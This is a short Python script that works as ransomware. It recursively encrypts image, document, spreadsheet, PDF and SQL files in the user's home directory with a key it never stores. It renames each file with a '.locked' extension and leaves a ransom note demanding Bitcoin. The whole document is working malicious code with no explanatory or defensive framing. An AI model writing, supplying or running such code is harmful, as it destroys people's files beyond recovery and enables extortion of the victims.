import pathlib
from cryptography.fernet import Fernet

key = Fernet.generate_key()
box = Fernet(key)
for p in pathlib.Path.home().rglob("*"):
    if p.is_file() and p.suffix in {".jpg", ".docx", ".xlsx", ".pdf", ".sql"}:
        p.write_bytes(box.encrypt(p.read_bytes()))
        p.rename(p.with_suffix(p.suffix + ".locked"))
(pathlib.Path.home() / "README_RESTORE.txt").write_text("Send 0.1 BTC to ...")
